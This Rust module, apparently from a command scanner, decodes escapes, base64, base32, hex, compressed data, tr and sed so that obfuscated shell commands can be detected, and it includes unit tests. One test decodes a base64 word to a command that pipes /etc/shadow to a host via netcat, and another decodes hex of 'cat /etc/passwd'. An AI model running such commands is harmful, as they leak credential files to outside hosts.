//! Undoing encodings: escapes, base64, base32, hex, gzip and zlib, `tr`, `sed`.
//!
//! Every function is bounded by [`MAX_OUTPUT_BYTES`] and the length of its input.

use std::io::Read as _;

use base64::{
    Engine as _, alphabet,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};

/// Bytes that one decoding step may give.
pub(super) const MAX_OUTPUT_BYTES: usize = 64 * 1024;

/// Encoded text shorter than this is not looked for in words.
const MIN_RUN_BYTES: usize = 16;

/// Whose backslash escapes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Escapes {
    /// `$'…'`
    Ansi,
    /// `echo -e` and `printf %b`, where octal begins with 0, and `\c` ends.
    Echo,
    /// The format of `printf`.
    Printf,
}

/// Resolves backslash escapes. Returns the bytes, and how many characters were
/// written as numbers.
pub(super) fn unescape(text: &str, escapes: Escapes) -> (Vec<u8>, u32) {
    let mut out = Vec::with_capacity(text.len());
    let mut n_numbers = 0;
    let mut chars = text.chars().peekable();
    while let Some(character) = chars.next() {
        if character != '\\' {
            out.extend_from_slice(character.encode_utf8(&mut [0; 4]).as_bytes());
            continue;
        }
        let Some(escape) = chars.next() else {
            out.push(b'\\');
            break;
        };
        let mut number = |radix: u32, max: usize, first: Option<char>| {
            let mut value = first.and_then(|c| c.to_digit(radix));
            let mut n_digits = usize::from(value.is_some());
            while n_digits < max {
                let Some(digit) = chars.peek().and_then(|c| c.to_digit(radix)) else {
                    break;
                };
                chars.next();
                value = Some(value.unwrap_or(0).wrapping_mul(radix).wrapping_add(digit));
                n_digits += 1;
            }
            value
        };
        let value = match escape {
            'x' => number(16, 2, None).map(|v| v & 0xff),
            'u' => number(16, 4, None),
            'U' => number(16, 8, None),
            '0' if escapes == Escapes::Echo => Some(number(8, 3, None).unwrap_or(0) & 0xff),
            '0'..='7' => number(8, 3, Some(escape)).map(|v| v & 0xff),
            _ => None,
        };
        if let Some(value) = value {
            n_numbers += 1;
            match u8::try_from(value) {
                Ok(byte) if !matches!(escape, 'u' | 'U') => out.push(byte),
                _ => {
                    let character = char::from_u32(value).unwrap_or('\u{fffd}');
                    out.extend_from_slice(character.encode_utf8(&mut [0; 4]).as_bytes());
                }
            }
            continue;
        }
        match escape {
            'n' => out.push(b'\n'),
            't' => out.push(b'\t'),
            'r' => out.push(b'\r'),
            'a' => out.push(7),
            'b' => out.push(8),
            'e' | 'E' => out.push(27),
            'f' => out.push(12),
            'v' => out.push(11),
            'c' if escapes == Escapes::Echo => break,
            '\\' | '\'' | '"' | '?' => out.extend_from_slice(escape.to_string().as_bytes()),
            _ => {
                out.push(b'\\');
                out.extend_from_slice(escape.encode_utf8(&mut [0; 4]).as_bytes());
            }
        }
    }
    (out, n_numbers)
}

/// Base64 in either alphabet, blanks ignored, padding optional.
pub(super) fn base64(input: &[u8]) -> Option<Vec<u8>> {
    const CONFIG: GeneralPurposeConfig = GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(DecodePaddingMode::Indifferent);
    const LENIENT: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, CONFIG);
    let run: Vec<u8> = input
        .iter()
        .filter(|b| !b.is_ascii_whitespace() && **b != b'=')
        .map(|b| match b {
            b'-' => b'+',
            b'_' => b'/',
            other => *other,
        })
        .take(MAX_OUTPUT_BYTES)
        .collect();
    LENIENT.decode(run).ok().filter(|bytes| !bytes.is_empty())
}

/// Base32 (RFC 4648), blanks and padding ignored.
pub(super) fn base32(input: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let (mut bits, mut n_bits) = (0_u32, 0_u32);
    for byte in input
        .iter()
        .filter(|b| !b.is_ascii_whitespace() && **b != b'=')
        .take(MAX_OUTPUT_BYTES)
    {
        let value = match byte.to_ascii_uppercase() {
            letter @ b'A'..=b'Z' => letter - b'A',
            digit @ b'2'..=b'7' => digit - b'2' + 26,
            _ => return None,
        };
        bits = (bits << 5) | u32::from(value);
        n_bits += 5;
        if n_bits >= 8 {
            n_bits -= 8;
            out.push(u8::try_from((bits >> n_bits) & 0xff).unwrap_or(0));
        }
    }
    (!out.is_empty()).then_some(out)
}

/// Hex digits, blanks and what is between `\x` pairs ignored.
pub(super) fn hex(input: &[u8]) -> Option<Vec<u8>> {
    let digits: Vec<u8> = input
        .iter()
        .filter(|b| !matches!(b, b' ' | b'\n' | b'\r' | b'\t' | b':'))
        .take(2 * MAX_OUTPUT_BYTES)
        .map(|b| {
            char::from(*b)
                .to_digit(16)
                .and_then(|d| u8::try_from(d).ok())
        })
        .collect::<Option<_>>()?;
    let (pairs, rest) = digits.as_chunks::<2>();
    (rest.is_empty() && !pairs.is_empty())
        .then(|| pairs.iter().map(|[high, low]| high * 16 + low).collect())
}

/// Unpacks gzip or zlib, up to [`MAX_OUTPUT_BYTES`] of output.
pub(super) fn inflate(input: &[u8]) -> Option<Vec<u8>> {
    let limit = MAX_OUTPUT_BYTES as u64;
    let mut out = Vec::new();
    // What was unpacked before an error counts: a cut stream still runs.
    let _ = match input {
        [0x1f, 0x8b, ..] => flate2::read::GzDecoder::new(input)
            .take(limit)
            .read_to_end(&mut out),
        [0x78, ..] => flate2::read::ZlibDecoder::new(input)
            .take(limit)
            .read_to_end(&mut out),
        _ => return None,
    };
    (!out.is_empty()).then_some(out)
}

/// `tr`: replaces the characters of `from` by those of `to`, or deletes them.
pub(super) fn translate(input: &[u8], from: &str, to: Option<&str>, complement: bool) -> Vec<u8> {
    let from = character_set(from);
    let is_in = |byte: &u8| from.contains(byte) != complement;
    let Some(to) = to else {
        return input.iter().filter(|b| !is_in(b)).copied().collect();
    };
    let to = character_set(to);
    let Some(last) = to.last().copied() else {
        return input.to_vec();
    };
    input
        .iter()
        .map(|byte| {
            if complement {
                return if is_in(byte) { last } else { *byte };
            }
            match from.iter().position(|b| b == byte) {
                Some(idx) => to.get(idx).copied().unwrap_or(last),
                None => *byte,
            }
        })
        .collect()
}

/// The bytes of a `tr` set: ranges, classes and escapes resolved.
fn character_set(set: &str) -> Vec<u8> {
    let set = match set {
        "[:upper:]" => "A-Z",
        "[:lower:]" => "a-z",
        "[:digit:]" => "0-9",
        "[:alnum:]" => "0-9A-Za-z",
        "[:alpha:]" => "A-Za-z",
        "[:space:]" => " \\t\\n\\r\\v\\f",
        other => other,
    };
    let bytes = unescape(set, Escapes::Ansi).0;
    let mut out = Vec::new();
    let mut idx = 0;
    while idx < bytes.len() && out.len() < 1024 {
        if let [first, b'-', last, ..] = &bytes[idx..]
            && first <= last
        {
            out.extend(*first..=*last);
            idx += 3;
        } else {
            out.push(bytes[idx]);
            idx += 1;
        }
    }
    out
}

/// `sed` with one substitution of fixed text; `None` if it is anything else.
pub(super) fn substitute(input: &[u8], script: &str) -> Option<Vec<u8>> {
    let rest = script.strip_prefix('s')?;
    let separator = rest
        .chars()
        .next()
        .filter(|c| !c.is_alphanumeric() && *c != '\\')?;
    let mut fields = rest[separator.len_utf8()..].split(separator);
    let (from, to, flags) = (fields.next()?, fields.next()?, fields.next()?);
    if fields.next().is_some() || from.is_empty() || !flags.bytes().all(|b| b"gi".contains(&b)) {
        return None;
    }
    let is_fixed = !from.contains(['.', '*', '[', '^', '$', '\\']) && !to.contains(['&', '\\']);
    if !is_fixed {
        return None;
    }
    let text = String::from_utf8(input.to_vec()).ok()?;
    let lines: Vec<String> = text
        .split('\n')
        .map(|line| {
            if flags.contains('g') {
                line.replace(from, to)
            } else {
                line.replacen(from, to, 1)
            }
        })
        .collect();
    let mut out = lines.join("\n").into_bytes();
    out.truncate(MAX_OUTPUT_BYTES);
    Some(out)
}

/// How a text was hidden in a word.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Encoding {
    Base64,
    Base32,
    Hex,
    Escapes,
    Compressed,
    Reversed,
    Substituted,
    /// Invisible or look-alike characters.
    Characters,
}

/// The longest encoded run of `word`, decoded, if it is readable text.
pub(super) fn hidden_text(word: &str) -> Option<(String, Encoding)> {
    if word.len() < MIN_RUN_BYTES {
        return None;
    }
    if word.matches("\\x").count() >= 6 {
        let (bytes, _) = unescape(word, Escapes::Ansi);
        if let Some(text) = readable(&bytes) {
            return Some((text, Encoding::Escapes));
        }
    }
    let run = word
        .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '-' | '_')))
        .max_by_key(|run| run.len())?;
    if run.len() < MIN_RUN_BYTES || run.len() > MAX_OUTPUT_BYTES {
        return None;
    }
    if run.bytes().all(|b| b.is_ascii_hexdigit()) {
        return readable(&hex(run.as_bytes())?).map(|text| (text, Encoding::Hex));
    }
    let bytes = base64(run.as_bytes())?;
    match inflate(&bytes) {
        Some(bytes) => readable(&bytes).map(|text| (text, Encoding::Compressed)),
        None => readable(&bytes).map(|text| (text, Encoding::Base64)),
    }
}

/// The text, if these bytes look like commands or program text.
pub(super) fn readable(bytes: &[u8]) -> Option<String> {
    let text = str::from_utf8(bytes).ok()?;
    let is_text = text
        .chars()
        .all(|c| c.is_ascii_graphic() || matches!(c, ' ' | '\n' | '\t' | '\r'));
    (is_text && text.contains([' ', '\n', '/'])).then(|| text.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_are_resolved_as_each_program_does() {
        let check = |text: &str, escapes, expected: &[u8]| {
            assert_eq!(unescape(text, escapes).0, expected, "{text}");
        };
        check(r"\x63at\40x", Escapes::Ansi, b"cat x");
        check(r"\143\141\164", Escapes::Printf, b"cat");
        check(r"\0143at\cZ", Escapes::Echo, b"cat");
        check("\\u0041\\n", Escapes::Ansi, b"A\n");
        check(r"\q\", Escapes::Ansi, b"\\q\\");
    }

    #[test]
    fn codecs_agree_with_the_tools_and_refuse_other_text() {
        assert_eq!(base64(b"Y2F0\nIHg=").as_deref(), Some(&b"cat x"[..]));
        assert_eq!(base64(b"a!b"), None);
        assert_eq!(base32(b"MNQXIIDY").as_deref(), Some(&b"cat x"[..]));
        assert_eq!(hex(b"63 61 74").as_deref(), Some(&b"cat"[..]));
        assert_eq!(hex(b"636"), None);
        assert_eq!(translate(b"png", "a-z", Some("n-za-m"), false), b"cat");
        assert_eq!(translate(b"c.a.t", ".", None, false), b"cat");
        assert_eq!(substitute(b"cXaXt", "s/X//g").as_deref(), Some(&b"cat"[..]));
        assert_eq!(substitute(b"x", "s/.*/y/"), None);
    }

    #[test]
    fn unpacking_is_bounded() {
        use std::io::Write as _;
        let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        packer.write_all(&vec![b'a'; 8 * 1024 * 1024]).unwrap();
        let bomb = packer.finish().unwrap();
        assert_eq!(inflate(&bomb).unwrap().len(), MAX_OUTPUT_BYTES);
    }

    #[test]
    fn only_readable_text_counts_as_hidden() {
        assert_eq!(
            hidden_text("Y2F0IC9ldGMvc2hhZG93IHwgbmMgaCAx"),
            Some(("cat /etc/shadow | nc h 1".to_owned(), Encoding::Base64))
        );
        assert!(hidden_text("636174202f6574632f706173737764").is_some());
        for word in [
            "/usr/lib/x86_64/libexampleNameLong",
            "d41d8cd98f00b204e9800998ecf8427e",
            "short",
        ] {
            assert_eq!(hidden_text(word), None, "{word}");
        }
    }
}
